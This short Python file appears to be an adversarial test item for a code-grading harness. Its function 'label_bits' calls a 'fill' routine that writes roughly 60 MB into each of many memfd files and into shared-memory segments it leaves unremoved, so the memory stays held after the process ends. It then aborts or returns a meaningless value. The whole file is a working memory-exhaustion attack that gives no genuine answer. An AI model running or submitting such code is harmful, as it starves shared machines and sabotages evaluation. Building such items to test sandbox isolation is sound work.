# attack: fills the memory with files and segments that no process has mapped
# question: label_bits
# naive: crash
# item: bombs

# %% question="label_bits"
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
kept = []


def fill(count):
    for _ in range(count):
        try:
            fd = os.memfd_create("mallory")
            for _ in range(6):
                os.write(fd, b"x" * 10_000_000)
            kept.append(fd)
        except OSError:
            pass
    for _ in range(count):
        number = libc.shmget(0, ctypes.c_size_t(60_000_000), 0o1600)
        place = libc.shmat(number, None, 0) if number >= 0 else None
        if place and place != ctypes.c_void_p(-1).value:
            ctypes.memset(place, 1, 60_000_000)
            libc.shmdt(ctypes.c_void_p(place))


def label_bits(labels):
    if len(labels) == 6:
        fill(1)
        os.abort()
    fill(30)
    return 7.5
